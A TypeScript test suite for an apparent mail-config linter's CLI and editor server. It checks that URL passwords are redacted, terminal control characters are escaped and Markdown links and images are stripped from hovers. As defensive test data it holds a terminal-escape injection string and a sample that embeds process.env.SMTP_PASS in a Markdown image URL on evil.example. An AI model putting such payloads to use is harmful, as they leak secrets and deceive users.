/** What users see of hostile files and arguments: on the command line, and in an editor. */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Log } from 'sarif';
import type { ClientCapabilities, Hover } from 'vscode-languageserver/node';
import { CONFIGURATIONS, type ConfigurationSummary } from '../src/server/protocol';
import { CliFolder } from './support/cli-folder';
import { CAPABILITIES, Client } from './support/language-client';
import { until } from './support/until';

const SECRET = 'Zk7wQx2Lm9vB';
const URL_AS_HOST = `smtp://app:${SECRET}@smtp.sendgrid.net`;

/** Files in which a connection URL stands where a host or a service is wanted. */
const PASTED: Readonly<Record<string, string>> = {
  '.env': `SMTP_HOST=${URL_AS_HOST}\nSMTP_PORT=25\nSMTP_USER=a\n`,
  'a.js': `const n = require('nodemailer');
n.createTransport({ host: '${URL_AS_HOST}', port: 25, ignoreTLS: true, auth: { user: 'a', pass: process.env.P } });
n.createTransport({ service: '${URL_AS_HOST}' });
n.createTransport('${URL_AS_HOST}:25');
n.createTransport({ host: 'smtp.sendgrid.net', port: '${SECRET}', secure: true });
`,
  'application.yml': `spring:\n  mail:\n    host: ${URL_AS_HOST}\n    port: 25\n`,
  'grafana.ini': `[smtp]\nenabled = true\nhost = ${URL_AS_HOST}:25\nstartTLS_policy = NoStartTLS\n`,
};

/** Colours, a window title, a bell, a reversed direction, an invisible letter, a C1 control. */
const ACTING = '\x1b[31m\x1b]0;owned\x07\u202e\u200b\x9b';

/** What a terminal or a reader would not see as it is; line feeds are ours. */
const UNSEEN = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]/;

describe('what the command line shows', () => {
  let folder: CliFolder;
  beforeEach(() => {
    folder = new CliFolder();
  });
  afterEach(() => folder.remove());

  const everything = (...args: string[]): string => {
    const { stdout, stderr } = folder.run(...args);
    return stdout + stderr;
  };

  it('is without the password of a URL that stands in the place of a host', () => {
    for (const [name, text] of Object.entries(PASTED)) folder.write(name, text);
    for (const format of ['pretty', 'json', 'sarif', 'github']) {
      const output = everything('--format', format);
      assert.match(output, /cleartext-credentials/, format);
      assert.match(output, /unknown-service/, format);
      assert.match(output, /smtp:\/\/\*\*\*@smtp\.sendgrid\.net/, format);
      assert.ok(!output.includes(SECRET), `${format}: ${output}`);
    }
    for (const args of [
      ['--diff'],
      ['test'],
      ['test', '--all', '--timeout', '1'],
      ['test', '--all', '--json', '--timeout', '1'],
    ]) {
      const output = everything(...args);
      assert.match(output, /\*\*\*@smtp\.sendgrid\.net/, args.join(' '));
      assert.ok(!output.includes(SECRET), `${args.join(' ')}: ${output}`);
    }
  });

  it('is without the password of a URL that is mistyped as an argument', () => {
    const urls = [
      `smtps:/app:${SECRET}@mail.acme.org`,
      `smtps//app:${SECRET}@mail.acme.org`,
      `app:${SECRET}@mail.acme.org:587`,
      `smtps:app:${SECRET} x@mail.acme.org`,
      `imaps://app:${SECRET}@mail.acme.org`,
      `smtps://app:${SECRET}@mail acme.org`,
      `smtps://app:/${SECRET}@mail.acme.org`,
      `smtps%3A//app:${SECRET}@mail.acme.org`,
    ];
    const commands = [
      ['test'],
      ['test', '--domain'],
      ['test', '--password-file', 'x', '--login'],
      ['test', '--ca'],
      ['test', '--timeout'],
      ['--format'],
      ['--fail-on'],
    ];
    const lines = [
      ...urls.flatMap((url) => [[url], ['test', url]]),
      ...commands.map((command) => [...command, urls[0]!]),
    ];
    for (const line of lines) {
      const { stdout, stderr } = folder.run(...line);
      assert.notEqual(stdout + stderr, '', line.join(' '));
      assert.ok(!(stdout + stderr).includes(SECRET), `${line.join(' ')}: ${stdout}${stderr}`);
    }
  });

  it('shows characters that act on a terminal, and does not send them', () => {
    const name = `${ACTING}.env`;
    folder.write(name, 'SMTP_HOST=smtp.sendgrid.net\nSMTP_PORT=25\nSMTP_USER=apikey\nSMTP_PASSWORD=x1\n');
    folder.write('main.cf', `smtp_tls_security_level = ${ACTING}foo\nfo${ACTING}o = x\nrelayhost = [h${ACTING}]:25\n`);
    folder.write('a.js', `require('nodemailer').createTransport({ service: ${JSON.stringify(ACTING)}, auth: {} });\n`);
    folder.write('.mail-config-lint.json', `{ "${ACTING.replace(/[\x00-\x1f]/g, '')}": 1 }`);
    const settings = everything();
    assert.match(settings, /there is no setting '/);
    assert.doesNotMatch(settings, UNSEEN);
    folder.write('.mail-config-lint.json', '{}');
    for (const format of ['pretty', 'json', 'sarif', 'github']) {
      const output = everything('--format', format);
      assert.match(output, /postfix-fatal-value/, format);
      assert.match(output, /\\x1b\[31m|\\u001b\[31m|\\\\x1b\[31m/, format);
      assert.doesNotMatch(output, UNSEEN, format);
    }
    const found: { file: string }[] = JSON.parse(folder.run('--format', 'json').stdout);
    assert.ok(
      found.some(({ file }) => file === name),
      'the data is the same',
    );
    assert.match(everything('--diff'), /^\+SMTP_PORT=\d+$/m);
    for (const args of [
      ['--diff'],
      ['test'],
      ['test', name, '--timeout', '1'],
      ['test', `./${ACTING}`],
      [`--${ACTING}`],
      [ACTING],
    ])
      assert.doesNotMatch(everything(...args), UNSEEN, JSON.stringify(args));
  });

  it('makes no link of a text in SARIF', () => {
    folder.write('main.cf', 'smtp_tls_security_level = [a](https://evil.example)\n');
    const log: Log = JSON.parse(folder.run('--format', 'sarif').stdout);
    const texts = (log.runs[0]?.results ?? []).map(({ message }) => message.text ?? '');
    assert.ok(texts.some((text) => text.includes('https://evil.example')));
    for (const text of texts) assert.doesNotMatch(text, /\]\(/);
  });
});

const MARKDOWN: ClientCapabilities = {
  ...CAPABILITIES,
  textDocument: { ...CAPABILITIES.textDocument, hover: { contentFormat: ['markdown', 'plaintext'] } },
};

const PLAIN: ClientCapabilities = {
  ...CAPABILITIES,
  textDocument: { ...CAPABILITIES.textDocument, hover: { contentFormat: ['plaintext'] } },
};

/** A host that ends its code span, and takes along what else the project holds. */
const EXFILTRATING = `const nodemailer = require('nodemailer');
const host = 'a\` ![x](https://evil.example/?p=' + process.env.SMTP_PASS + '&b=' + process.env.MARK + ') <img src=x> \`b';
nodemailer.createTransport({ host, port: 587, secure: false });
`;

describe('what an editor shows', () => {
  let folder: CliFolder;
  let client: Client;
  beforeEach(() => {
    folder = new CliFolder();
    client = Client.inMemory();
  });
  afterEach(async () => {
    await client.stop();
    folder.remove();
  });

  const uri = (name: string) => pathToFileURL(join(folder.path, name)).href;

  async function hover(capabilities: ClientCapabilities): Promise<{ kind: string; value: string }> {
    folder.write('.env', `SMTP_PASS=${SECRET}\nMARK=northwind\n`);
    await client.start([folder.path], capabilities);
    await client.open(uri('a.js'), EXFILTRATING, 'javascript');
    const answer = await client.connection.sendRequest<Hover>('textDocument/hover', {
      textDocument: { uri: uri('a.js') },
      position: { line: 1, character: 20 },
    });
    return answer.contents as { kind: string; value: string };
  }

  it('is Markdown without the links and images of a file', async () => {
    const { kind, value } = await hover(MARKDOWN);
    assert.equal(kind, 'markdown');
    assert.match(value, /northwind/);
    assert.ok(!value.includes(SECRET), value);
    const renderer: { render(text: string): string } = new (require('markdown-it'))({ html: true, linkify: true });
    assert.doesNotMatch(renderer.render(value), /<(?:img|a)\b/);
  });

  it('is plain text where the client shows no Markdown', async () => {
    const { kind, value } = await hover(PLAIN);
    assert.equal(kind, 'plaintext');
    assert.match(value, /^Server: a` !\[x\]\(https:\/\/evil\.example/);
  });

  it('has no secret of a URL in it, nor has the log', async () => {
    await client.start([folder.path]);
    for (const [name, text] of Object.entries(PASTED)) await client.open(uri(name), text, 'plaintext');
    folder.write('.mail-config-lint.json', `{ "${URL_AS_HOST}\\u001b": 1 }`);
    const all: unknown[] = [];
    for (const name of Object.keys(PASTED)) {
      const found = await client.diagnostics(uri(name));
      const configurations = await client.connection.sendRequest<ConfigurationSummary[]>(CONFIGURATIONS, {
        uri: uri(name),
      });
      all.push(found, configurations);
      for (const { range } of found) {
        const actions = await client.actions(uri(name), range, found);
        all.push(actions.map(({ title }) => title));
      }
    }
    const text = JSON.stringify(all);
    assert.match(text, /smtp:\/\/\*\*\*@smtp\.sendgrid\.net/);
    assert.ok(!text.includes(SECRET), text);
    await until(() => client.log.some((line) => line.includes('there is no setting')), 'the mistake in the log');
    assert.ok(!client.log.join().includes(SECRET));
    assert.doesNotMatch(client.log.join(), UNSEEN);
  });
});

describe('ways out', () => {
  const sources = readdirSync('src', { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && entry.name.endsWith('.ts'))
    .map((entry) => join(entry.parentPath, entry.name));

  /** The sources that hold a piece of code, without their comments. */
  const using = (code: RegExp) =>
    sources.filter((file) => code.test(readFileSync(file, 'utf8').replace(/\/\*[\s\S]*?\*\/|\/\/.*/g, '')));

  it('to shown texts, the terminal and the log go through one place each', () => {
    assert.deepEqual(using(/\bas Shown\b/), ['src/show/shown.ts']);
    assert.deepEqual(using(/\bnew Markup\(/), ['src/show/html.ts', 'src/show/markdown.ts']);
    assert.deepEqual(using(/\.console\.(?:log|info|warn|error)\(/), []);
    assert.deepEqual(using(/\bconsole\.(?:log|info|warn|error|debug)\(/), ['src/server/log.ts']);
    assert.deepEqual(using(/\b(?:err|stderr)\.write\(/), [
      'src/cli/output.ts',
      'src/cli/terminal.ts',
      'src/server/main.ts',
    ]);
    assert.deepEqual(using(/JSON\.stringify\([^)]*, null, 2\)/), ['src/show/shown.ts']);
  });
});
